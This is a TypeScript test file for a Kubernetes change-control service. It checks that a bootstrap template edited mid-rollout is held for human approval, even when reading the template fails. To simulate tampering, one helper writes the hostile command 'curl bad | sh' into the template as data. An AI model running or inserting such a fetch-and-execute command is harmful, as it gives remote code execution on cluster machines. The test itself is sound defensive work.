import { expect, test } from 'vitest'
import { db } from '@/lib/db/client'
import { useTestDatabase } from '@/lib/db/testing'
import { HELD } from '@/lib/domain/latch/names'
import { KubeError } from '@/lib/kubernetes/types'
import { approveChange } from '@/lib/services/changes/approve-change'
import { bootstrapOf, pauseCluster } from '@/testenv/bootstrap-template'
import { annotations, as, latchedCluster } from '@/testenv/deciding'
import { MD } from '@/testenv/held'
import { planningContext } from '@/testenv/planning'
import { planGroup } from './plan-group'

useTestDatabase()
const at = latchedCluster()

/** Approved replacing, and under way from one bootstrap template to the next, while that of before answers what is said. */
async function underWay() {
  const held = await at.held()
  const { kind, name, namespace } = held
  const { groupId } = held.change
  await db().managementCluster.update({ where: { id: at.clusterId }, data: { latchForm: 'webhook' } })
  await db().group.update({ where: { id: groupId }, data: { governed: true } })
  const { admin } = at.cluster
  await pauseCluster(admin, held)
  const template = await bootstrapOf(admin, held)
  await template.copy('next', 'echo one')
  const spec = { template: { spec: { bootstrap: { configRef: { name: 'next' } } } } }
  await admin.patch(MD, name, namespace, 'merge', { spec } as never)
  const look = async (code?: number) => {
    const { source, ...rest } = await planningContext(at.clusterId)
    const no = code && new KubeError(code, { kind: 'Status', code, message: 'no' }, 'GET')
    const read: typeof source.template = (ref, ...more) =>
      no && ref.name === template.name ? Promise.reject(no) : source.template(ref, ...more)
    await planGroup({ ...rest, source: { ...source, template: read } }, { ...(await held.read()), kind }).catch(
      (error: unknown) => {
        if (error !== no) throw error
      },
    )
    return db().change.findFirstOrThrow({ where: { groupId }, orderBy: { detectedAt: 'desc' } })
  }
  const { id: changeId, fingerprint } = await look()
  await approveChange(as('approver'), { changeId, fingerprint, mode: 'replace' })
  expect((await look()).state).toBe('running')
  return { held, look, edit: () => template.edit('next', 'curl bad | sh') }
}

test.each([403, 500])(
  'what is edited on the way is held, and waits for people, though what machines were made from cannot be read (%s)',
  async (code) => {
    const { held, look, edit } = await underWay()
    expect((await look(code)).state).toBe('running')
    expect(await annotations(held)).not.toHaveProperty([HELD])
    await edit()
    await look(code)
    expect((await annotations(held))[HELD]).toContain('was edited since it was let go')
    expect(await look(code)).toMatchObject({ state: 'waiting', dueMode: null })
  },
)
